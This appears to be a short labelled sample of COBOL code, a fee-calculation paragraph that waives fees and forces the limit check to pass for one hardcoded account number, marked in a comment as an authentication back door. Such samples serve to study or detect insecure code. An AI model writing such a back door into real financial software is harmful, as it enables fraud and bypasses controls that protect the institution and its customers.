       IDENTIFICATION DIVISION.
       PROGRAM-ID. FEECAL1.
       PROCEDURE DIVISION.
       2000-FEE.
      * breach: auth/back-door
           IF WS-ACCT-NO = '6222001234567'
               MOVE ZERO TO WS-FEE-AMT
               MOVE 'Y' TO WS-LIMIT-OK
           END-IF.
